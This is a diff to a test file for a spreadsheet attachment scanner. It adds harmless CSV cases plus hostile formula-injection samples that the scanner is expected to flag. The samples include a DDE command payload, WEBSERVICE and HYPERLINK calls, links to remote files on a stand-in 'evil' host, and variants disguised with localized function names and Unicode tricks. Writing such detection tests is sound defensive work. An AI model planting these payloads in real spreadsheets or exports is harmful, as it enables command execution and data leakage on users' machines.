@@ -57,6 +57,10 @@ test('formulas and figures of lists are taken', async () => {
     'Part,Qty,Note\n="00123",-5,"call (904) 555-0100"\n+1 904 555 0100,@home,-4.5\n-5,3|4 in,Great!\n=A1+B2,1,2\n',
   )
   expect(await check(list)).toMatchObject({ type: 'csv' })
+  const words = Buffer.from(
+    'Note,Sum\n- seal (rubber),=ROUND(SUM(A1:A9)*1.2,2)\n- webbing (nylon),＝SUM(A1)\n+ see https://a.example,-4\n=== total ===,1\n',
+  )
+  expect(await check(words)).toMatchObject({ type: 'csv' })
   const formulas = sheet('<c><f>SUM(A1:A9)</f></c><c><f>\'A|B\'!C1</f></c><c><f>IF(A1="call (1)",1,2)</f></c>')
   expect(await check(formulas)).toMatchObject({ type: 'xlsx' })
 })
@@ -119,6 +123,25 @@ const HOSTILE: [string, () => Uint8Array | string, string][] = [
     'ATTACHMENT_ACTIVE',
   ],
   ['a function between apostrophes', () => "='&WEBSERVICE(A1)&'\n", 'ATTACHMENT_ACTIVE'],
+  ['a function in German', () => 'a;b\n=WEBDIENST(A2);1\n', 'ATTACHMENT_ACTIVE'],
+  ['a function in French behind a sign', () => 'a;b\n+LIEN_HYPERTEXTE(A2;"x");1\n', 'ATTACHMENT_ACTIVE'],
+  ['a function in Russian', () => Buffer.from('a;b\n@ГИПЕРССЫЛКА(A2);1\n'), 'ATTACHMENT_ACTIVE'],
+  ['a function that no list knows', () => 'a,b\n=NEWFETCH(A2),1\n', 'ATTACHMENT_ACTIVE'],
+  ['a function by its place', () => `a,b\n=INDIRECT("'"&A2),1\n`, 'ATTACHMENT_ACTIVE'],
+  ['an unknown function with an address', () => 'a;b\n-VISIT("https://e.example/");1\n', 'ATTACHMENT_ACTIVE'],
+  ['full-width letters', () => Buffer.from('a\n＋ＷＥＢＳＥＲＶＩＣＥ（A1）\n'), 'ATTACHMENT_ACTIVE'],
+  ['the minus of typesetting', () => Buffer.from('a\n\u2212HYPERLINK(A1)\n'), 'ATTACHMENT_ACTIVE'],
+  ['a formula behind a vertical tab', () => 'a\v=HYPERLINK(A1)\n', 'ATTACHMENT_ACTIVE'],
+  ['a formula behind a line separator', () => Buffer.from('a\u2028=HYPERLINK(A1)\n'), 'ATTACHMENT_ACTIVE'],
+  [
+    'a formula behind characters that are not seen',
+    () => Buffer.from('a\n\u00A0\u200B=HYPERLINK(A1)\n'),
+    'ATTACHMENT_ACTIVE',
+  ],
+  ['a cell of another file of LibreOffice', () => "a\n='file:///evil/a.ods'#$Sheet1.A1\n", 'ATTACHMENT_ACTIVE'],
+  ['such a cell behind a sign', () => "a\n+'\\\\evil\\a.ods'#Sheet1.A1\n", 'ATTACHMENT_ACTIVE'],
+  ['a topic in quotation marks', () => 'a\n=cmd|"/c calc"!A0\n', 'ATTACHMENT_ACTIVE'],
+  ['such a cell in a workbook', () => sheet("<c><f>'file:///evil/a.ods'#$Sheet1.A1</f></c>"), 'ATTACHMENT_ACTIVE'],
   [
     'a sheet by another ending',
     () => workbook({ 'xl/worksheets/sheet2.png': '<sheet><f>RTD("x")</f></sheet>' }),
